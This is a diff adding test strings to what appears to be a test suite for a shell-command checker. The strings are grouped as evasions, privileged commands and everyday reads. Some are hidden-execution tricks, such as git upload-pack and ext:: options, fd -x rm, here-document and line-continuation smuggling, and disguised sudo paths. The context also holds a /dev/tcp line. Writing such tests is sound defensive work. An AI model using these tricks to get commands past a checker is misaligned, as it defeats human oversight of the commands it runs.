@@ -36,6 +36,11 @@ EVASIONS = [
     "{ ls; } > f",
     "while read l; do echo $l; done < in > out",
     "echo x > /dev/tcp/10.0.0.1/80",
+    "ls > /dev/$x",  # may be /dev/tcp/...
+    'while read l; do echo "$l"; done < "$f"',
+    "cat <<END; rm x\nhi\nEND",  # a command after the here-document operator
+    "ls \\\n; rm x",  # a line continuation
+    "/usr/bin/time -o out ls",
     # read-only tools given options that write
     "ls | tee out.txt",
     "sed -i s/a/b/ f",
@@ -88,6 +93,8 @@ EVASIONS = [
     "rg --pre=cat x",
     "rg foo *",  # a file named --pre=sh
     "rg --hostname-bin=x foo",
+    "fd -x rm",
+    "fd . --exec-batch rm",
     "sort --compress-program=sh f",
     "git -c core.pager=sh log",
     "git --config-env=core.pager=X log",
@@ -103,6 +110,10 @@ EVASIONS = [
     "git bisect run ./t.sh",
     "git submodule foreach rm x",
     "git config --edit",
+    "git clone --upload-pack='sh -c id' /tmp/r x",  # runs locally for a local "remote"
+    "git fetch ext::sh",
+    "git push --receive-pack=x",
+    "git -ccore.pager=sh log",
     "tar --checkpoint-action=exec=sh -cf x .",
     "tar -xf a.tar --to-command=sh",
     "tar -I 'sh -c id' -xf a",
@@ -121,6 +132,10 @@ EVASIONS = [
     "read 'a[$(id)]' <<< 1",
     'declare "a[$i]=1"',
     "let x=1",
+    "declare -i n",  # n='a[$(id)]' later runs id
+    "declare -n ref=x",
+    "((i=x))",  # bashlex reads this as subshells; bash evaluates x
+    "ls#$(id)",  # not a comment: # inside a word
     # environment that changes what runs
     "PAGER=sh git log",
     "GIT_EXTERNAL_DIFF=x git diff",
@@ -333,6 +348,11 @@ PRIVILEGED_COMMANDS = [
     "trap 'sudo ls' EXIT",
     "PAGER=sh sudo ls",
     "cat <(sudo id)",
+    "/bin/../usr/bin/sudo ls",
+    "/tmp/sudo ls",
+    "fd -x sudo rm",
+    "[[ -f x ]] && sudo rm y",  # bashlex cannot parse [[; the word sudo still counts
+    'ls "; sudo ls',
 ]
 
 EVERYDAY_READS = [
@@ -451,6 +471,11 @@ EVERYDAY_READS = [
     "npm ls",
     "cat <<EOF\nhello $USER\nEOF",
     "cat <<'EOF'\n$(not run)\nEOF",
+    'cat <<-"EOF"\n\t`not run`\n\tEOF',
+    "ls #$(id) is a comment",
+    "fd -e py",
+    "ls > /dev/null 2>/dev/stderr",
+    "command -v sudo",
     'grep x <<< "$var"',
     "wc -l < f",
     "tar -tzf a.tgz",
